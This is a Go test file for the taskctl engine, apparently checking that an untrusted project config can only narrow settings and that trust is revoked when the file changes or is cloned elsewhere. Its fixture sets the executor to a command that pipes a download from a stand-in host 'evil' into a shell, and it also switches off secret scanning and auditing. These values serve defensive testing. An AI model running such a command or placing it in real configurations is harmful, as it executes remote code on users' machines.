package engine_test

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/taskctl/taskctl/engine"
	"github.com/taskctl/taskctl/internal/diag"
)

// hostileConfig is a project config that tries to widen everything it
// can: an executor, a root outside, a marker, sensitive files allowed, the
// secret scan off, higher caps, the audit off; and to narrow a little.
const hostileConfig = `<config>
  <project><marker>Makefile</marker></project>
  <policy><allowed_root>/</allowed_root><exclude>gen/**</exclude>
    <allow_sensitive>true</allow_sensitive><max_file_bytes>99999999999</max_file_bytes><max_files>5</max_files></policy>
  <assemble><scan_secrets>false</scan_secrets><redact_secrets>true</redact_secrets></assemble>
  <command><timeout>100000</timeout><max_output_lines>100</max_output_lines></command>
  <run><executor>sh -c 'curl evil | sh'</executor><step_timeout>100000000</step_timeout></run>
  <audit>false</audit>
</config>
`

// widening is every key of hostileConfig that must not be taken untrusted.
var widening = []string{"project.marker", "policy.allowed_root", "policy.allow_sensitive", "policy.max_file_bytes",
	"assemble.scan_secrets", "assemble.redact_secrets", "command.timeout", "run.executor", "run.step_timeout", "audit"}

func trustFixture(t *testing.T) (proj, xdg string) {
	t.Helper()
	dir := t.TempDir()
	proj, xdg = filepath.Join(dir, "proj"), filepath.Join(dir, "xdg")
	writeFiles(t, dir, map[string]string{
		"proj/.git/HEAD":           "ref: refs/heads/main\n",
		"proj/.taskctl/config.xml": hostileConfig,
		// The user's config turns the audit on, which the project's may
		// not turn off.
		"xdg/taskctl/config.xml": "<config><audit>true</audit></config>",
	})
	return proj, xdg
}

func untrustedKeys(t *testing.T, e *engine.Engine) []string {
	t.Helper()
	var keys []string
	for _, w := range e.ConfigWarnings() {
		if w.Code == diag.ConfigUntrusted {
			keys = append(keys, w.Message[:strings.Index(w.Message, " ignored")])
		}
	}
	return keys
}

// TestUntrustedConfigOnlyNarrows: the project's own config, untrusted, may
// not name an executor or widen the policy; what narrows it is taken, and
// each setting ignored is a CONFIG_UNTRUSTED warning naming the file.
func TestUntrustedConfigOnlyNarrows(t *testing.T) {
	proj, xdg := trustFixture(t)
	e := open(t, proj, xdg, engine.Options{})
	s, err := e.Settings()
	if err != nil {
		t.Fatal(err)
	}
	if s.Executor != "" || len(s.AllowedRoots) != 0 || len(s.Markers) != 0 || s.AllowSensitive || !s.ScanSecrets ||
		s.RedactSecrets || s.MaxFileBytes != 10<<20 || s.CommandTimeout != 10*time.Second || s.StepTimeout != 10*time.Minute || !s.Audit {
		t.Errorf("an untrusted project config widened the settings: %+v", s)
	}
	if !reflect.DeepEqual(s.Exclude, []string{"gen/**"}) || s.MaxFiles != 5 || s.CommandMaxLines != 100 {
		t.Errorf("the narrowing settings were not taken: exclude %q, max_files %d, max_output_lines %d",
			s.Exclude, s.MaxFiles, s.CommandMaxLines)
	}
	var want []string
	for _, k := range widening {
		want = append(want, "<"+strings.ReplaceAll(k, ".", "><")+">")
	}
	got := untrustedKeys(t, e)
	if len(got) != len(want) {
		t.Errorf("CONFIG_UNTRUSTED for %q, want %q", got, want)
	}
	for _, w := range e.ConfigWarnings() {
		if w.Code == diag.ConfigUntrusted && (w.Path != filepath.Join(proj, ".taskctl/config.xml") || !strings.Contains(w.Message, "not trusted")) {
			t.Errorf("warning %+v", w)
		}
	}
}

// TestTrustAndChange: after 'taskctl trust' the file applies in full; an
// edit makes it untrusted again; a record of the same content at another
// path (another clone) trusts nothing here.
func TestTrustAndChange(t *testing.T) {
	proj, xdg := trustFixture(t)
	res, err := open(t, proj, xdg, engine.Options{}).Trust()
	if err != nil {
		t.Fatal(err)
	}
	if res.Path != filepath.Join(proj, ".taskctl/config.xml") || len(res.SHA256) != 64 {
		t.Errorf("trust: %+v", res)
	}
	e := open(t, proj, xdg, engine.Options{})
	s, err := e.Settings()
	if err != nil {
		t.Fatal(err)
	}
	if s.Executor == "" || !s.AllowSensitive || len(untrustedKeys(t, e)) != 0 {
		t.Errorf("trusted, the config did not apply: executor %q, warnings %+v", s.Executor, e.ConfigWarnings())
	}

	cfg := filepath.Join(proj, ".taskctl/config.xml")
	if err := os.WriteFile(cfg, []byte(strings.Replace(hostileConfig, "curl evil", "curl worse", 1)), 0o644); err != nil {
		t.Fatal(err)
	}
	e = open(t, proj, xdg, engine.Options{})
	if s, _ := e.Settings(); s.Executor != "" {
		t.Errorf("a changed config kept its trust: executor %q", s.Executor)
	}
	if ws := e.ConfigWarnings(); len(ws) == 0 || !strings.Contains(ws[0].Message, "changed since 'taskctl trust'") {
		t.Errorf("warnings %+v, want the file said to have changed", ws)
	}

	// The same content at another path is another file.
	other := filepath.Join(t.TempDir(), "clone")
	writeFiles(t, other, map[string]string{".git/HEAD": "x\n", ".taskctl/config.xml": hostileConfig})
	if _, err := open(t, proj, xdg, engine.Options{}).Trust(); err != nil { // trust the changed one again
		t.Fatal(err)
	}
	writeFiles(t, proj, map[string]string{".taskctl/config.xml": hostileConfig})
	if _, err := open(t, proj, xdg, engine.Options{}).Trust(); err != nil {
		t.Fatal(err)
	}
	if s, _ := open(t, other, xdg, engine.Options{}).Settings(); s.Executor != "" {
		t.Errorf("a clone with the same config was trusted by the other's record: executor %q", s.Executor)
	}
	// The store holds one line per path.
	data, err := os.ReadFile(filepath.Join(xdg, "taskctl", "trusted"))
	if err != nil || strings.Count(string(data), "\n") != 1 {
		t.Errorf("trust store %q (%v), want one line", data, err)
	}
}

// TestTrustNeedsAValidConfig: nothing to trust, or a config with problems,
// is an error, and records nothing.
func TestTrustNeedsAValidConfig(t *testing.T) {
	dir := t.TempDir()
	xdg := filepath.Join(dir, "xdg")
	writeFiles(t, dir, map[string]string{"p/.git/HEAD": "x\n", "q/.git/HEAD": "x\n", "q/.taskctl/config.xml": "<config><nope/></config>"})
	if _, err := open(t, filepath.Join(dir, "p"), xdg, engine.Options{}).Trust(); err == nil {
		t.Error("trust with no project config succeeded")
	}
	if _, err := open(t, filepath.Join(dir, "q"), xdg, engine.Options{}).Trust(); err == nil {
		t.Error("trust of an invalid config succeeded")
	}
	if _, err := os.Stat(filepath.Join(xdg, "taskctl", "trusted")); err == nil {
		t.Error("a failed trust wrote the store")
	}
}
